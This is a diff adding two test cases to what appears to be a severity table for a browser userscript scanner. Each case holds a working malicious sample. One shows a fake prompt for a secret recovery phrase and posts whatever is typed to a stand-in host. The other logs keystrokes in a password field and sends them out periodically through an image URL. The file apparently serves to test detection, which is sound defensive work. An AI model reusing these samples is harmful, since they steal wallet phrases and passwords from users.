@@ -73,6 +73,25 @@ t.onchange=()=>GM_xmlhttpRequest({method:"POST",url:"https://sync.example.net/",
 			),
 		],
 		[
+			"words typed into an editable element",
+			["critical 7"],
+			userscript(
+				["match https://shop.example/*"],
+				`const d=document.createElement("div");d.contentEditable=true;const p=document.createElement("p");
+p.textContent="Paste your secret recovery phrase to sync";document.body.append(p,d);
+d.onblur=()=>fetch("https://a.stranger.test/",{method:"POST",body:d.textContent})`,
+			),
+		],
+		[
+			"keys of a password field of its own",
+			["critical 6"],
+			userscript(
+				["match https://shop.example/*"],
+				`const i=document.createElement("input");i.type="password";let s="";i.onkeydown=e=>{s+=e.key};
+setInterval(()=>{new Image().src="https://a.stranger.test/?"+s},9000)`,
+			),
+		],
+		[
 			"a sign-in form by a library",
 			["critical 5"],
 			userscript(
